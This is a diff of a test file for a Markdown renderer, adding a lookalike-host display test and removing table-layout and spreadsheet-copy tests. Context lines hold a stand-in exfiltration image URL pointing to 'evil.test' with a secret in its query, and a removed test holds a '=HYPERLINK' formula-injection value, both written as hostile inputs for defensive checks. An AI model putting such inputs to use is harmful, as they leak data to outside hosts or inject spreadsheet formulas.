@@ -29,6 +29,11 @@ it('says where a link leads and gives its target nothing', () => {
   expect(link).toHaveAttribute('title', 'Opens example.com')
 })
 
+it('says a host in small letters beside an address whose capitals read as others', () => {
+  render(<Markdown text="<https://PaypaI.example/>" />)
+  expect(screen.getByRole('link', { name: /PaypaI.*paypai\.example$/ })).toBeVisible()
+})
+
 it('asks for no picture, whole or half', () => {
   const text = 'x ![chart](https://evil.test/?q=secret)'
   const { rerender } = render(<Markdown text="" streaming />)
@@ -127,24 +132,6 @@ it('keeps the colours of code while the code grows', async () => {
   rerender(<Markdown text={`${code}const c = 3\n\`\`\``} />)
   expect(document.querySelector("[data-token='keyword']")).toBe(first)
   await waitFor(() => expect(document.querySelectorAll("[data-token='keyword']")).toHaveLength(3))
-})
-
-it('moves no column of a table when the last cell of a row comes', () => {
-  const text = '| a | b | c |\n|---|---|---|\n| long words | and some more '
-  const { rerender } = render(<Markdown text={text} streaming />)
-  const places = () =>
-    screen.getAllByRole('columnheader').map((head) => head.getBoundingClientRect().left)
-  const before = places()
-  rerender(<Markdown text={`${text}| 2 |`} streaming />)
-  expect(places()).toEqual(before)
-})
-
-it('copies a table for a spreadsheet, and no formula with it', async () => {
-  const written = vi.spyOn(navigator.clipboard, 'writeText').mockResolvedValue()
-  render(<Markdown text={'| a | b |\n| - | - |\n| **1** | =HYPERLINK("x") |\n| -5 % | c |'} />)
-  await userEvent.click(screen.getByRole('button', { name: 'Copy table' }))
-  expect(written).toHaveBeenCalledWith('a\tb\n1\t\'=HYPERLINK("x")\n-5 %\tc')
-  written.mockRestore()
 })
 
 it('shows no half-written mark while the text comes', () => {
